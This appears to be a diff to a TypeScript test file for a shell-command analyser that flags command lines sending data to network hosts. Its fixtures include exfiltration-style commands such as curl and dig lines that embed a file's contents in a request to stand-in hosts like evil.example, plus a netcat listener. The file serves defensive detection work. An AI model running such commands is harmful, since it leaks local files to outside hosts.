@@ -24,6 +24,7 @@ const LINES: readonly (readonly [line: string, told: readonly string[]])[] = [
   ["curl https://a.example/$(cat x)", ["a.example", "?"]],
   ["nc -l 80", ["?"]],
   ["dig $(cat x).evil.example", [".evil.example", "?"]],
+  ["xargs curl < urls.txt", ["?"]],
   ["curl", []],
   ["curl --version", []],
   ["npm test", []],
@@ -44,4 +45,21 @@ describe("where a command line would send something", () => {
         [named.filter((host) => !host.startsWith(".")), hidden],
       );
     });
+
+  it("is told where a program sends to a host of its own settings", async () => {
+    const reader = await readerOf("bash");
+    const sends = (line: string): boolean => {
+      const reading = reader.read(line);
+      return reading.kind === "script" && outgoing(reading).sends;
+    };
+    const lines = [
+      "git push",
+      "git -C x push origin",
+      "npm publish",
+      "bash -c 'gh gist create a'",
+      "docker push x",
+    ];
+    const others = ["git commit -m 'push it'", "npm test", "docker ps", "gh --version", "make push"];
+    assert.deepEqual([lines.filter(sends), others.filter(sends)], [lines, []]);
+  });
 });
